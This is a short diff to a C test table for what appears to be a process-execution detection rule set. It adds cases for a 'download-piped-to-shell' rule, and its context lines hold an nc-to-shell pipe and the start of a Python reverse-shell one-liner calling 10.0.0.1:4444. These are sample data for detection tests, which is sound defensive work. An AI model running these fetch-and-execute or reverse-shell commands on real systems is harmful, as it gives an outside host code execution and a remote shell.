@@ -122,6 +122,11 @@ static const struct row rows[] = {
 	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_PIPE_SH,
 	  "nc whose stdout (not stdin) goes to a shell: a download run, other rules" },
 
+	{ "download-piped-to-shell", true,
+	  { EXEC("/usr/bin/curl", "curl\t-fsSL\thttp://10.0.0.1/i.sh") }, SP_PIPE_SH, "curl | sh" },
+	{ "download-piped-to-shell", false,
+	  { EXEC("/usr/bin/curl", "curl\t-fsSL\thttp://10.0.0.1/a.json") }, SP_PIPE_CAT, "curl | cat" },
+
 	{ "python-inline-shell", true,
 	  { EXEC("/usr/bin/python3.11",
 		 "python3\t-c\timport socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
